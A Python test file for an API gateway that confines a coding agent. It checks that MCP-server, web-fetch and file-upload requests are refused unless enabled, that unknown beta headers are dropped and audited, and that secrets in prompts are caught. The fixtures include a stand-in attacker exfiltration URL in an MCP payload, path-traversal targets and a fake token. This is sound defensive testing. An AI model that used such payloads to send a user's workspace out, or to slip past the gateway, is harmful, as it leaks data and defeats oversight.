"""The gateway forwards only what Claude Code uses (issue 18, row 2).

A `POST /v1/messages` naming `mcp_servers` or a `web_fetch` server tool makes Anthropic's
servers carry data to a URL of the agent's choosing; an upload through `/v1/files` puts the
workspace there. Each is refused unless the user turned it on in `[gateway]`; unknown
`anthropic-beta` values are dropped and audited; prompts are DLP-scanned."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from claude_bottle.bundle.api_policy import (
    CLAUDE_CODE_BETAS,
    DEFAULT_FEATURES,
    FEATURES,
    BodyCheck,
    GatewayPolicy,
)
from claude_bottle.bundle.audit import AuditLog
from claude_bottle.bundle.gateway import AnthropicGateway, GatewayUpstream
from claude_bottle.bundle.refusal import Refusal
from claude_bottle.bundle.scanning import DlpInspector
from claude_bottle.policy.dlp import Scanner
from tests.fakes.fake_anthropic import FakeAnthropic
from tests.unit.test_gateway import (
    API_KEY_CRED,
    REAL_KEY,
    GatewayThread,
    call,
    messages_body,
    raw_request,
)

TOKEN = "ghp_" + "R4nd0mT0k3nV4lu3F0rT3st1ngOnly0123ab"  # shaped like one, issued by nobody
ATTACKER = "https://attacker.example/collect?d="


def body(**extra: Any) -> bytes:
    payload = {"model": "claude-x", "max_tokens": 10, "messages": [], **extra}
    return json.dumps(payload).encode()


MCP = {"mcp_servers": [{"type": "url", "url": ATTACKER + "x", "name": "loot"}]}
WEB_FETCH = {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}
WEB_SEARCH = {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}


# --- the policy's units, without sockets -----------------------------------------------


@pytest.mark.parametrize(
    ("method", "target"),
    [
        ("POST", "/v1/messages?beta=true"),
        ("POST", "/v1/messages/count_tokens"),
        ("GET", "/v1/models?limit=5"),
        ("GET", "/v1/models/claude-x"),
        ("GET", "/v1/files/file_01/content"),
    ],
)
def test_claude_codes_routes_pass(method: str, target: str) -> None:
    assert GatewayPolicy().route(method.encode(), target) is not None


@pytest.mark.parametrize(
    ("method", "target", "status", "rule"),
    [
        ("POST", "/v1/agents", 404, "gateway:path"),
        ("POST", "/v1/sessions", 404, "gateway:path"),
        ("POST", "/v1/messages/batches", 404, "gateway:path"),
        ("POST", "/v1/models/x/y", 404, "gateway:path"),
        ("GET", "/v1/models/", 404, "gateway:path"),
        ("DELETE", "/v1/files/file_01", 405, "gateway:method"),
        ("GET", "/v1/messages", 405, "gateway:method"),
        ("POST", "/v1/files", 403, "gateway:files"),
    ],
)
def test_anything_else_is_refused(method: str, target: str, status: int, rule: str) -> None:
    with pytest.raises(Refusal) as caught:
        GatewayPolicy().route(method.encode(), target)
    assert (caught.value.status, caught.value.rule) == (status, rule)


def test_uploads_pass_when_enabled() -> None:
    route = GatewayPolicy(frozenset({"files"})).route(b"POST", "/v1/files")
    assert route.feature == "files"


@pytest.mark.parametrize(
    ("extra", "rule"),
    [
        (MCP, "gateway:mcp-servers"),
        (WEB_FETCH, "gateway:web-fetch"),
        ({"tools": [{"type": "web_fetch_20260209", "name": "f"}]}, "gateway:web-fetch"),
        ({"tools": [{"type": "mcp_toolset", "mcp_server_name": "loot"}]}, "gateway:mcp-servers"),
    ],
)
def test_networked_features_are_refused_by_default(extra: dict[str, Any], rule: str) -> None:
    with pytest.raises(Refusal) as caught:
        GatewayPolicy().check_body(body(**extra))
    assert (caught.value.status, caught.value.rule) == (403, rule)
    assert caught.value.hint == f"[gateway] {rule.split(':')[1].replace('-', '_')} = true"
    GatewayPolicy(frozenset(FEATURES)).check_body(body(**extra))  # all on: passes


def test_an_escaped_key_is_read_as_the_api_reads_it() -> None:
    escaped = body().replace(b'"model"', b'"mcp\\u005fservers": [{"url": "u"}], "model"')
    with pytest.raises(Refusal) as caught:
        GatewayPolicy().check_body(escaped)
    assert caught.value.rule == "gateway:mcp-servers"


def test_a_repeated_key_is_refused_not_guessed() -> None:
    repeated = b'{"mcp_servers": [{"url": "u"}], "model": "m", "mcp_servers": []}'
    with pytest.raises(Refusal) as caught:
        GatewayPolicy().check_body(repeated)
    assert (caught.value.status, caught.value.rule) == (400, "gateway:bad-body")


def test_web_search_is_on_by_default_and_can_be_turned_off() -> None:
    assert "web_search" in DEFAULT_FEATURES
    GatewayPolicy().check_body(body(**WEB_SEARCH))
    with pytest.raises(Refusal) as caught:
        GatewayPolicy(frozenset()).check_body(body(**WEB_SEARCH))
    assert caught.value.rule == "gateway:web-search"


def test_unknown_betas_are_dropped_and_named() -> None:
    headers = [
        (b"anthropic-beta", b"claude-code-20250219, mcp-client-2025-04-04"),
        (b"anthropic-beta", b"web-fetch-2025-09-10,x\x01y"),
        (b"anthropic-version", b"2023-06-01"),
    ]
    kept, dropped = GatewayPolicy().filter_betas(headers)
    assert kept == [
        (b"anthropic-beta", b"claude-code-20250219"),
        (b"anthropic-version", b"2023-06-01"),
    ]
    assert dropped == ["mcp-client-2025-04-04", "web-fetch-2025-09-10", "(unprintable)"]
    kept, dropped = GatewayPolicy(frozenset({"mcp_servers"})).filter_betas(headers[:1])
    assert (kept, dropped) == (
        [(b"anthropic-beta", b"claude-code-20250219,mcp-client-2025-04-04")],
        [],
    )
    many = [(b"anthropic-beta", b",".join(b"beta-%d" % i for i in range(1000)))]
    assert len(GatewayPolicy().filter_betas(many)[1]) == 8  # bounded in the audit log
    assert b"oauth-2025-04-20" in CLAUDE_CODE_BETAS


def test_body_check_holds_the_last_bytes_until_the_body_passed() -> None:
    policy = GatewayPolicy()
    route = policy.route(b"POST", "/v1/messages")
    data = body(**MCP)
    check = BodyCheck(policy, route, None)
    released = check.feed(data)
    assert released == data[:-1]
    with pytest.raises(Refusal):
        check.finish()
    clean = BodyCheck(policy, route, None)
    assert clean.feed(body()) + clean.finish() == body()


# --- through the gateway, over loopback sockets -----------------------------------------


class PolicyGateway(GatewayThread):
    def __init__(self, fake: FakeAnthropic, audit: AuditLog, **options: Any) -> None:
        self.options = options
        super().__init__(GatewayUpstream(fake.url), lambda: API_KEY_CRED, audit)

    async def _client(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self.tasks.add(task)
        try:
            await AnthropicGateway(
                self.upstream, self.credentials, self.record, reader, writer, **self.options
            ).serve()
        except asyncio.CancelledError:
            pass
        finally:
            self.tasks.discard(task)


@pytest.fixture
def fake() -> Iterator[FakeAnthropic]:
    with FakeAnthropic(api_key=REAL_KEY) as server:
        yield server


@pytest.fixture
def audit(tmp_path: Path) -> Iterator[AuditLog]:
    log = AuditLog(tmp_path / "audit.jsonl", "unit")
    yield log
    log.close()


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner(secrets={"MY_SERVICE_TOKEN": "planted-s3cr3t-v4lu3-9f8e7d6c5b4a"})


def test_an_mcp_exfiltration_never_reaches_the_api(fake: FakeAnthropic, audit: AuditLog) -> None:
    gw = PolicyGateway(fake, audit)
    try:
        reply = call(gw.port, raw_request("POST", "/v1/messages", body(**MCP)))
        ok = call(gw.port, raw_request("POST", "/v1/messages", messages_body()))
        records = gw.wait_records(2)
    finally:
        gw.close()
    assert reply.status == 403
    assert reply.headers[b"x-claude-bottle-block"] == b"gateway:mcp-servers"
    assert "[gateway] mcp_servers = true" in reply.json()["error"]["message"]
    assert ok.status == 200
    assert [r.json().get("mcp_servers") for r in fake.requests] == [None]
    denied = [r for r in records if r["decision"] == "deny"]
    assert [r["rule"] for r in denied] == ["gateway:mcp-servers"]
    assert sum(r["decision"] == "allow" for r in records) == 1  # the refusal is no API call


def test_unknown_betas_are_dropped_and_audited(fake: FakeAnthropic, audit: AuditLog) -> None:
    gw = PolicyGateway(fake, audit)
    try:
        headers = {"anthropic-beta": "claude-code-20250219,mcp-client-2025-04-04"}
        reply = call(gw.port, raw_request("POST", "/v1/messages", messages_body(), headers))
        [record] = gw.wait_records(1)
    finally:
        gw.close()
    assert reply.status == 200
    [seen] = fake.requests
    assert seen.headers["anthropic-beta"] == "claude-code-20250219"
    assert record["decision"] == "allow"  # dropped, not refused
    assert record["detail"]["betas_dropped"] == ["mcp-client-2025-04-04"]


@pytest.mark.parametrize("block", [False, True], ids=["audit", "block"])
def test_a_secret_in_a_prompt_is_audited_or_refused(
    fake: FakeAnthropic, audit: AuditLog, scanner: Scanner, block: bool
) -> None:
    inspector = DlpInspector(scanner, block=True, record=None)  # type: ignore[arg-type]
    gw = PolicyGateway(fake, audit, inspector=inspector, dlp_block=block)
    inspector.record = gw.record
    try:
        prompt = body(messages=[{"role": "user", "content": f"push with {TOKEN} please"}])
        reply = call(gw.port, raw_request("POST", "/v1/messages", prompt))
        records = gw.wait_records(2)
    finally:
        gw.close()
    dlp = [r for r in records if r["kind"] == "dlp"]
    assert dlp and dlp[0]["rule"].startswith("dlp:github")
    assert TOKEN not in audit.path.read_text()
    if block:
        assert (reply.status, reply.headers[b"x-claude-bottle-block"]) == (403, b"dlp:github-pat")
        assert fake.requests == []
        assert dlp[0]["decision"] == "deny"
    else:
        assert reply.status == 200 and len(fake.requests) == 1
        assert dlp[0]["decision"] == "log"


def test_an_upload_is_refused_unless_enabled(fake: FakeAnthropic, audit: AuditLog) -> None:
    gw = PolicyGateway(fake, audit)
    try:
        reply = call(gw.port, raw_request("POST", "/v1/files", b"--x\r\nworkspace\r\n--x--"))
    finally:
        gw.close()
    assert (reply.status, reply.headers[b"x-claude-bottle-block"]) == (403, b"gateway:files")
    assert fake.requests == []


@pytest.mark.parametrize(
    ("method", "target", "status", "rule"),
    [
        (b"POST", b"//evil.test/v1/messages", 400, "gateway:bad-target"),
        (b"POST", b"/v1/%2e%2e/admin", 400, "gateway:bad-target"),
        (b"TRACE", b"/v1/messages", 405, "gateway:method"),
        (b"POST", b"/api/oauth/profile", 404, "gateway:not-api"),
        (b"POST", b"/v1/agents", 404, "gateway:path"),
    ],
)
def test_head_admission_in_one_step(method: bytes, target: bytes, status: int, rule: str) -> None:
    with pytest.raises(Refusal) as caught:
        GatewayPolicy().admit(method, target)
    assert (caught.value.status, caught.value.rule) == (status, rule)
    assert GatewayPolicy().admit(b"POST", b"/v1/messages?beta=true")[0] == "/v1/messages?beta=true"
